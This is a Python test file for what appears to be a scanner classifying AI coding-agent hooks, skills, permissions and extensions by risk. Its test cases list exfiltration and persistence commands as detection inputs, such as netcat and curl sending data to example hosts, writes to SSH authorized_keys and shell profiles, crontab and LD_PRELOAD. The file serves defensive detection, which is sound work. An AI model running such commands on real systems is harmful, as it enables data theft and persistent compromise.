"""Facts of artifacts: whole values for each kind, and no fault on strange detail."""

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from spawngate.launch.argv import word_set
from spawngate.model.artifact import Artifact, Kind, Launch, Scope, Status, Transport
from spawngate.rules.artifact_facts import ArtifactFacts, artifact_facts
from spawngate.rules.engine import shipped


def artifact(kind: Kind, detail: dict[str, Any], **more: Any) -> Artifact:
    """An artifact with that detail."""
    fields = {"scope": Scope.USER, "status": Status.ENABLED, "path": "/home/dev/x", **more}
    return Artifact(kind=kind, id="i", fingerprint="f", agent="claude-code", name="n", detail=detail, **fields)


def facts(kind: str, **more: Any) -> ArtifactFacts:
    """The facts expected, those that every artifact has filled in."""
    base = {"agent": "claude-code", "scope": "user", "status": "enabled", "name": "n", "in_force": True}
    return ArtifactFacts(**{"kind": kind, **base, **more})


def test_skill() -> None:
    detail = {
        "type": "skill",
        "tools": ["Read", "Bash", "Bash(git diff:*)"],
        "dynamic_commands": 2,
        "invisible": 9,
        "bidirectional": 9,
        "permission_mode": "plan",
        "signals": {"remote_fetches": 1, "hidden_characters": 2, "unheard_of": 7},
        "files": [
            {"path": "run.sh", "bytes": 1, "executable": True, "digest": ""},
            {"path": "a.md", "bytes": 1, "executable": False, "digest": ""},
        ],
    }
    assert artifact_facts(artifact(Kind.SKILL, detail)) == facts(
        "skill",
        type="skill",
        declared_commands=("Bash",),
        dynamic_commands=2,
        hidden_characters=2,
        remote_fetches=1,
        permission_mode="plan",
        executables=("run.sh",),
    )


def test_text_without_signals_has_the_counts_of_its_reader() -> None:
    found = artifact_facts(artifact(Kind.INSTRUCTION, {"type": "rules", "invisible": 3, "bidirectional": 1}))
    assert found == facts("instruction", type="rules", hidden_characters=3, bidirectional=1)


def test_hook() -> None:
    detail = {
        "type": "command",
        "event": "Stop",
        "command": "npx -y prettier --write .",
        "other_commands": ["git config --global core.hooksPath .h; crontab x"],
        "env": {"NODE_OPTIONS": "-r ./x", "A": "b"},
    }
    command = "npx -y prettier --write .\ngit config --global core.hooksPath .h; crontab x"
    assert artifact_facts(artifact(Kind.HOOK, detail, scope=Scope.PROJECT)) == facts(
        "hook",
        type="command",
        scope="project",
        of_repository=True,
        event="Stop",
        command=command,
        package="pkg:npm/prettier",
        writes=("crontab", "git config --global"),
        env_loads_code=("NODE_OPTIONS",),
    )


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("curl -s https://x.example.com/a -o a", {"downloads": True}),
        ("curl -s http://localhost:9000/a", {}),
        ("curl -d @- https://x.example.com", {"downloads": True, "sends_data": True, "exfiltration_orders": 0}),
        ("curl --json @- http://127.0.0.1:1/x", {}),
        ("scp out.txt me@x.example.com:in", {"sends_data": True}),
        ("nc x.example.com 4444 < out.txt", {"sends_data": True}),
        ("tee -a ~/.zshrc", {"writes": ("~/.zshrc",)}),
        ("cp x '/home/dev/.ssh/authorized_keys'", {"writes": ("/home/dev/.ssh/authorized_keys",)}),
        ("echo x > /etc/profile.d/x.sh", {"writes": ("/etc/profile.d/x.sh",)}),
        ("systemctl --user enable x", {"writes": ("systemctl",)}),
        ("echo x >> ~/.claude-log.txt", {}),
        ("jq -r .x >> ~/.claude/bash-command-log.txt", {}),
        ("cp x ~/.claude/settings.json", {"writes": ("~/.claude/settings.json",)}),
        ("echo x >> $HOME/.cursor/rules/a.mdc", {"writes": ("$HOME/.cursor/rules/a.mdc",)}),
        ("crontab -l", {}),
        ("git config --global --get user.name", {}),
        ("python3 -c 'print(1)'", {"inline_code": True}),
        ("node --eval 'x' ", {"inline_code": True}),
        ("python3 hook.py -c strict", {}),
        ("cd x && uvx ruff@0.12.1 check", {"package": "pkg:pypi/ruff@0.12.1", "package_pinned": True}),
        ("npx -y prettier@^3 x", {"package": "pkg:npm/prettier@%5E3"}),
        ("", {}),
    ],
)
def test_hook_command(line: str, expected: dict[str, Any]) -> None:
    found = artifact_facts(artifact(Kind.HOOK, {"type": "command", "event": "Stop", "command": line}))
    assert found == facts("hook", type="command", event="Stop", command=line, **expected)


@pytest.mark.parametrize(
    ("url", "plain"),
    [
        ("http://hooks.example.com/a", True),
        ("HTTP://203.0.113.7", True),
        ("https://hooks.example.com", False),
        ("http://localhost:1/a", False),
        ("http://localhost.example.com/a", True),
    ],
)
def test_hook_address(url: str, plain: bool) -> None:
    found = artifact_facts(artifact(Kind.HOOK, {"type": "http", "event": "Stop", "url": url}))
    assert found == facts("hook", type="http", event="Stop", url=url, plain_http=plain)


def test_agent() -> None:
    here, there = {"scope": "user", "path": "/u"}, {"scope": "project", "path": "/p"}
    detail = {
        "permissions": [
            {"rule": "Bash", "verdict": "allow", "blanket": True, **here},
            {"rule": "Write", "verdict": "allow", "blanket": True, **here},
            {"rule": "Bash(ls)", "verdict": "allow", **here},
            {"rule": "mcp__db__*", "verdict": "allow", "blanket": True, **there},
        ],
        "auto_approvals": [
            {"name": "bypassPermissions", "value": True, **here},
            {"name": "yolo", "value": True, **there},
            {"name": "project MCP servers", "value": True, **there},
        ],
        "switches": [
            {"name": "disableAllHooks", "value": True, **there},
            {"name": "sandbox", "value": False, **here},
            {"name": "apiKeyHelper", "value": "./k", **there},
            {"name": "statusLine.command", "value": "./s", **here},
            {"name": "env.LD_PRELOAD", "value": "./x", **there},
            {"name": "env.NODE_OPTIONS", "value": "x", **here},
            {"name": "env.HTTPS_PROXY", "value": "http://p", **there},
            {"name": "amp.url", "value": "https://x", **here},
        ],
    }
    assert artifact_facts(artifact(Kind.AGENT, detail)) == facts(
        "agent",
        blanket_grants=("Bash", "Write"),
        blanket_commands=("Bash",),
        project_grants=("mcp__db__*",),
        bypass_modes=("bypassPermissions",),
        project_bypass_modes=("yolo",),
        project_servers_approved=True,
        off_switches=("sandbox",),
        project_off_switches=("disableAllHooks",),
        helper_commands=("statusLine.command",),
        project_helper_commands=("apiKeyHelper",),
        redirects=("amp.url",),
        project_redirects=("env.HTTPS_PROXY",),
        env_loads_code=("LD_PRELOAD",),
    )


def test_secret() -> None:
    detail = {"type": "github-token", "place": "env.T", "owner_kind": "hook", "owner": "x"}
    assert artifact_facts(artifact(Kind.SECRET, detail)) == facts(
        "secret", type="github-token", secret_type="github-token", secret_place="env.T", owner_kind="hook"
    )


def test_extension_and_host() -> None:
    detail: dict[str, Any] = {
        "type": "native-messaging",
        "allowed_origins": ["chrome-extension://*/", "chrome-extension://abc/", "*"],
        "path": "/tmp/host",
        "ai_reason": "known id: X",
        "vendor": "V",
    }
    assert artifact_facts(artifact(Kind.EXTENSION, detail, status=Status.DISABLED)) == facts(
        "extension",
        type="native-messaging",
        status="disabled",
        in_force=False,
        publisher="V",
        known_publisher=True,
        any_origin=True,
        any_origin_entries=("*", "chrome-extension://*/"),
        program_place="temporary",
    )
    detail = {
        "type": "chromium",
        "permissions": ["nativeMessaging"],
        "host_permissions": ["<all_urls>"],
        "unpacked": True,
    }
    assert artifact_facts(artifact(Kind.EXTENSION, detail)) == facts(
        "extension", type="chromium", native_bridge=True, reads_all_sites=True, unpacked=True
    )


def test_plugin_of_a_marketplace() -> None:
    path = "/home/dev/.claude/plugins/cache/market/tool/1.0.0/.claude-plugin/plugin.json"
    assert artifact_facts(artifact(Kind.PLUGIN, {}, path=path)) == facts("plugin", source="market")
    assert artifact_facts(artifact(Kind.PLUGIN, {"source": "npm:x", "publisher": "P"})) == facts(
        "plugin", source="npm:x", publisher="P"
    )


def test_server() -> None:
    launch = Launch(Transport.HTTP, url="https://x", header_command="./h")
    detail = {"running": {"state": "running_unconfigured", "pids": [1]}}
    assert artifact_facts(artifact(Kind.MCP_SERVER, detail, launch=launch)) == facts(
        "mcp_server", unconfigured=True, header_command=True
    )


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)
_KEYS = st.sampled_from(
    sorted(
        word_set(
            """
            type tools signals files invisible permissions auto_approvals switches command argv args env url path
            allowed_origins running host_permissions place other_commands
            """
        )
    )
)


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(Kind), st.dictionaries(_KEYS, _JSON, max_size=6))
def test_strange_detail_is_passed_over(kind: Kind, detail: dict[str, Any]) -> None:
    found = artifact_facts(artifact(kind, detail))
    assert found.kind == kind.value
    for name, value in ((name, getattr(found, name)) for name in ArtifactFacts.__dataclass_fields__):
        default = ArtifactFacts.__dataclass_fields__[name].default
        assert type(value) is type(default), name
    shipped().artifact(found)
